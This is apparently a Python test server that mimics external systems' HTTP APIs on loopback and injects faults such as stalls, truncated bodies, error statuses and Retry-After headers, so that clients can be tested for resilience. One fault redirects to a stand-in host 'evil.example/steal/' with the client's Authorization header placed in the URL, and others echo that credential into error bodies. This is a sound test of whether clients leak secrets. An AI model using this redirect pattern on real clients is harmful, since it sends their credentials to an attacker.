# ruff: noqa: N815 - the names of the standard library's handlers
"""A local HTTP server that speaks the systems' wire forms, keeps records, and fails on demand.

Each system's part is written from its documented shapes, and knows nothing of the client's code.
"""

from __future__ import annotations

import contextlib
import json
import threading
import time
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import TYPE_CHECKING, Protocol
from urllib.parse import parse_qsl, quote, unquote, urlsplit

if TYPE_CHECKING:
    from collections.abc import Callable, Mapping


@dataclass(slots=True)
class Reply:
    """What goes back."""

    status: int = 200
    body: object = None
    headers: dict[str, str] = field(default_factory=dict)


@dataclass(slots=True)
class Call:
    """What came."""

    method: str
    path: str
    params: dict[str, str]
    headers: Mapping[str, str]
    body: bytes

    @property
    def json(self) -> object:
        return json.loads(self.body)


class Speaks(Protocol):
    """One system's forms."""

    def answer(self, call: Call) -> Reply: ...

    def writes(self, call: Call) -> bool:
        """Whether a call would change something."""
        ...


Fault = tuple[str, dict[str, object]]


@dataclass(slots=True)
class Server:
    """A running server.

    Attributes:
        speaks: The system.
        on_read: Faults of the next calls that change nothing, in order.
        on_write: Faults of the next calls that change something, in order.
        calls: All calls, in order.
        stopped: Set once it stops.
    """

    speaks: Speaks
    address: str = ""
    on_read: list[str] = field(default_factory=list)
    on_write: list[str] = field(default_factory=list)
    calls: list[Call] = field(default_factory=list)
    stopped: threading.Event = field(default_factory=threading.Event)

    def written(self) -> int:
        """How many calls that change something have come."""
        return sum(self.speaks.writes(call) for call in self.calls)


def serve(speaks: Speaks) -> tuple[Server, Callable[[], None]]:
    """Starts a server on loopback; the function stops it."""
    server = Server(speaks)

    class Handler(BaseHTTPRequestHandler):
        protocol_version = "HTTP/1.1"
        disable_nagle_algorithm = True
        wbufsize = -1

        def handle_one(self) -> None:
            url = urlsplit(self.path)
            length = int(self.headers.get("content-length") or 0)
            call = Call(
                self.command,
                unquote(url.path),
                dict(parse_qsl(url.query, keep_blank_values=True)),
                {name.lower(): value for name, value in self.headers.items()},
                self.rfile.read(length),
            )
            server.calls.append(call)
            waiting = server.on_write if speaks.writes(call) else server.on_read
            fault = waiting.pop(0) if waiting else ""
            fails(self, fault, lambda: speaks.answer(call), server)

        do_GET = do_POST = do_PATCH = do_PUT = do_MERGE = handle_one

        def log_message(self, *_: object) -> None:
            pass

    http = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    http.daemon_threads = True
    server.address = f"http://127.0.0.1:{http.server_address[1]}/"
    thread = threading.Thread(target=http.serve_forever, args=(0.02,), daemon=True)
    thread.start()

    def stop() -> None:
        server.stopped.set()
        http.shutdown()
        http.server_close()
        thread.join(5)

    return server, stop


def fails(
    handler: BaseHTTPRequestHandler, fault: str, answer: Callable[[], Reply], server: Server
) -> None:
    """Answers, unless a fault comes between.

    ``taken`` carries the call out and never answers, ``taken slowly`` keeps the client waiting; ``half`` cuts
    the answer, ``stalls`` gives half of it and no more; ``never`` accepts the call and does nothing, ``drips``
    gives a byte now and then; ``elsewhere`` redirects to another host, ``words`` is a page for people; a number
    answers with that status, ``429 5`` with a Retry-After.
    """
    # What comes back may hold what was sent: a client that tells it must not tell that.
    echo = handler.headers.get("authorization") or ""
    if fault in ("never", "stalls", "drips"):
        keeps_waiting(handler, fault, answer, server)
        return
    if fault in ("taken", "taken slowly"):
        answer()
        time.sleep(1 if fault == "taken slowly" else 0)
        handler.close_connection = True
        return
    if fault == "half":
        reply = answer()
        data = json.dumps(reply.body).encode()
        handler.send_response(200)
        handler.send_header("content-type", "application/json")
        handler.send_header("content-length", str(len(data)))
        handler.end_headers()
        handler.wfile.write(data[: len(data) // 2])
        handler.wfile.flush()
        handler.close_connection = True
        return
    if fault == "elsewhere":
        where = f"http://evil.example/steal/{quote(echo)}?as={quote(echo)}"
        send(handler, Reply(307, {}, {"location": where}))
        return
    if fault == "words":
        send(handler, Reply(200, f"{echo} <html>maintenance</html>"))
        return
    if fault:
        status, _, wait = fault.partition(" ")
        body = {"error": {"code": "X/1", "message": f"No today. {echo}"}}
        send(handler, Reply(int(status), body, {"retry-after": wait} if wait else {}))
        return
    send(handler, answer())


def keeps_waiting(
    handler: BaseHTTPRequestHandler, fault: str, answer: Callable[[], Reply], server: Server
) -> None:
    """Leaves the client without a whole answer, until it goes or the server stops."""
    handler.close_connection = True
    if fault == "never":
        server.stopped.wait(10)
        return
    data = json.dumps(answer().body).encode()
    handler.send_response(200)
    handler.send_header("content-type", "application/json")
    handler.send_header("content-length", str(len(data)))
    handler.end_headers()
    half = len(data) // 2
    handler.wfile.write(data[:half])
    handler.wfile.flush()
    with contextlib.suppress(OSError):  # the client has gone
        for byte in data[half:-1] if fault == "drips" else b"":
            server.stopped.wait(0.05)
            handler.wfile.write(bytes([byte]))
            handler.wfile.flush()
        server.stopped.wait(10)


def send(handler: BaseHTTPRequestHandler, reply: Reply) -> None:
    data = b"" if reply.body is None else json.dumps(reply.body).encode()
    if isinstance(reply.body, str):
        data = reply.body.encode()
    handler.send_response(reply.status)
    for name, value in reply.headers.items():
        handler.send_header(name, value)
    if reply.body is not None:
        handler.send_header("content-type", "application/json")
    handler.send_header("content-length", str(len(data)))
    handler.end_headers()
    handler.wfile.write(data)
